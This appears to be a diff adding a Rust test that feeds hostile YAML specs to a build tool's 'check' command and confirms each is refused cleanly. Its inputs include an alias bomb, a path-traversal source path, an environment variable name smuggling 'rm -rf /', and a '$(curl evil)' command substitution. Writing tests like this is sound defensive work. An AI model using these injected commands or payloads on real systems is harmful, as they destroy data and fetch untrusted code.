@@ -1,0 +1,90 @@
+//! Hostile inputs, made at test time (positions: `:L:C` exact, `:L:` line only) (too big or too odd to keep as files): each is
+//! refused by `kiln check` with exit 2, a position and a message, without a panic,
+//! a hang or unbounded memory.
+
+use std::io::Write;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+fn alias_bomb() -> Vec<u8> {
+    let mut s = String::from("version: 1\nname: w\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
+    for i in 1..10 {
+        let refs = vec![format!("*a{}", i - 1); 10].join(", ");
+        s.push_str(&format!("a{i}: &a{i} [{refs}]\n"));
+    }
+    s.push_str("python: {base: python:3}\n");
+    s.into_bytes()
+}
+
+fn cases() -> Vec<(&'static str, Vec<u8>, &'static str, &'static str)> {
+    vec![
+        ("alias bomb", alias_bomb(), "budget breached", ":8:15"),
+        ("deep flow nesting", format!("version: 1\nname: w\nx: {}{}\n", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(), "recursion limit exceeded", ":3:"),
+        ("deep block nesting", format!("version: 1\nname: w\nx:\n{}", (1..2000).map(|i| format!("{}k{i}:\n", "  ".repeat(i))).collect::<String>()).into_bytes(), "", ":"),
+        ("11 MB file", format!("version: 1\nname: w\npython: {{base: python:3}}\nenv:\n{}", (0..100_000).map(|i| format!("  K{i}: \"{}\"\n", "v".repeat(100))).collect::<String>()).into_bytes(), "more than the 1048576 allowed", ":1:1"),
+        ("non-UTF-8", b"version: 1\nname: w\npython:\n  base: py\xc3\x28thon\n".to_vec(), "not valid UTF-8", ":4:11"),
+        ("NUL byte in a string", b"version: 1\nname: w\npython: {base: python:3}\nenv: {A: \"x\\0y\"}\n".to_vec(), "NUL", ":4:"),
+        ("only whitespace", b"  \n\t\n".to_vec(), "spec file is empty", ":1:1"),
+        ("a bare scalar", b"42\n".to_vec(), "must be a mapping", ":1:1"),
+        ("tabs for indentation", b"version: 1\nname: w\npython:\n\tbase: python:3\n".to_vec(), "invalid YAML", ":4:"),
+        ("an unclosed quote", b"version: 1\nname: \"w\npython: {}\n".to_vec(), "invalid YAML", ":"),
+        ("many documents", b"version: 1\nname: w\n---\nversion: 1\n".to_vec(), "", ":"),
+        ("shell in an env name", b"version: 1\nname: w\npython: {base: python:3}\nenv: {\"A;rm -rf /\": x}\n".to_vec(), "invalid environment variable name", ":4:"),
+        ("command substitution in a package", b"version: 1\nname: w\npython: {base: python:3}\nsystem: {build: [\"$(curl evil)\"]}\n".to_vec(), "invalid apt package name", ":4:"),
+        ("a path escaping the context", b"version: 1\nname: w\npython: {base: python:3}\napp: {src: [\"app/../../etc\"]}\n".to_vec(), "would leave the build context", ":4:13"),
+        ("a huge uid", b"version: 1\nname: w\npython: {base: python:3}\nuser: {name: u, uid: 99999999999999999999}\n".to_vec(), "", ":4:"),
+    ]
+}
+
+#[test]
+fn hostile_specs_are_refused_cleanly_and_quickly() {
+    let dir = std::env::temp_dir().join(format!("kiln-hostile-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let mut failures = vec![];
+    for (name, bytes, message, position) in cases() {
+        let path = dir.join(format!("{}.yaml", name.replace(' ', "-")));
+        std::fs::File::create(&path)
+            .unwrap()
+            .write_all(&bytes)
+            .unwrap();
+        let start = Instant::now();
+        let mut child = Command::new(env!("CARGO_BIN_EXE_kiln"))
+            .arg("check")
+            .arg(&path)
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        // A guard against hangs, far above the milliseconds these take.
+        let status = loop {
+            if let Some(s) = child.try_wait().unwrap() {
+                break s;
+            }
+            if start.elapsed() > Duration::from_secs(60) {
+                child.kill().ok();
+                break child.wait().unwrap();
+            }
+            std::thread::sleep(Duration::from_millis(10));
+        };
+        let stderr = std::io::read_to_string(child.stderr.take().unwrap()).unwrap();
+        let first = stderr.lines().take(2).collect::<Vec<_>>().join(" | ");
+        if status.code() != Some(2) {
+            failures.push(format!("{name}: exit {:?}: {first}", status.code()));
+        } else if stderr.contains("panicked") {
+            failures.push(format!("{name}: panicked"));
+        } else if !stderr.contains(message)
+            || !stderr.lines().any(|l| {
+                l.contains("--> ")
+                    && (l.ends_with(position) || (position.ends_with(':') && l.contains(position)))
+            })
+        {
+            failures.push(format!(
+                "{name}: wanted `{message}` at `{position}`, got: {first}"
+            ));
+        } else if stderr.len() > 20_000 {
+            failures.push(format!("{name}: {} bytes of diagnostics", stderr.len()));
+        }
+    }
+    std::fs::remove_dir_all(&dir).ok();
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
